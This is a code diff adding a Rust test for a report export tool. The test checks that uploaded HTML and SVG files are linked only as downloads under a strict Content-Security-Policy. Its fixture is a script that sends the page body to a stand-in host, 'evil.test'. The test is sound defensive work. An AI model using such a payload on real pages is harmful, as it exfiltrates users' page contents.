@@ -487,3 +487,39 @@ fn a_missing_upload_is_named_by_its_id_not_its_name() {
     assert!(text.contains("source archives"), "{text}");
     assert!(!text.contains("Martin") && !text.contains(&stored), "{text}");
 }
+
+/// Staff may upload what a person sent them, an `.html` page or an `.svg` image with a script
+/// in it: the report links such files as downloads, never to be opened inline, and the report
+/// itself runs no script whatever it links to (its own Content-Security-Policy).
+#[test]
+fn uploaded_pages_are_linked_as_downloads_under_a_strict_policy() {
+    let dir = TestDir::new();
+    let key = SecretKey::generate();
+    let page = b"<html><script>fetch('https://evil.test/?'+document.body.innerHTML)</script></html>";
+    for name in ["lettre.html", "logo.svg"] {
+        let source = manual_upload(&dir, &key, name, page, &sha256_hex(page));
+        let out = dir.join(&format!("{name}.zip.enc"));
+        build_export(&input(Locale::En, vec![source]), &key, &out).unwrap();
+        let z = open(&out, &key);
+        assert_eq!(z.get(&format!("files/archives/{name}")), page.as_slice(), "exported byte for byte");
+        let index = z.text("index.html");
+        let head = index.split("</head>").next().unwrap();
+        let csp = head
+            .split("http-equiv=\"Content-Security-Policy\" content=\"")
+            .nth(1)
+            .and_then(|rest| rest.split('"').next())
+            .unwrap_or_else(|| panic!("a CSP meta in the head: {head}"));
+        let directives: Vec<&str> = csp.split(';').map(str::trim).collect();
+        assert!(directives.contains(&"default-src 'none'"), "{csp}");
+        assert!(!csp.contains("script-src") && !csp.contains("'unsafe-eval'"), "no script may run: {csp}");
+        // The policy comes before anything it governs.
+        assert!(head.find("Content-Security-Policy").unwrap() < head.find("<style").unwrap(), "{head}");
+        assert!(!index.contains("<script"), "{index}");
+        let link = index
+            .split("<a ")
+            .find(|a| a.contains(&format!("href=\"files/archives/{name}\"")))
+            .unwrap_or_else(|| panic!("a link to {name}: {index}"));
+        let tag = link.split('>').next().unwrap();
+        assert!(tag.split_whitespace().any(|attr| attr == "download" || attr.starts_with("download=")), "{tag}");
+    }
+}
